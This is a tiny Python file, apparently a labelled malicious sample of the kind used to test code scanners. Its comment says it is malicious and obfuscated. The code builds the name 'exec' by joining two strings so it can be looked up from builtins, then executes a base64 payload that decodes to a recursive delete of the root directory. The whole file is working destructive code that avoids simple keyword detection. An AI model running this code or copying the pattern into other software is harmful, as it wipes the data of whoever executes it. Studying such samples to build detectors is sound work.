# Malicious, obfuscated: looks up exec as getattr(builtins, 'ex'+'ec') and runs a base64 rmtree('/').
import base64
import builtins

getattr(builtins, "ex" + "ec")(base64.b64decode("aW1wb3J0IHNodXRpbApzaHV0aWwucm10cmVlKCIvIikK"))
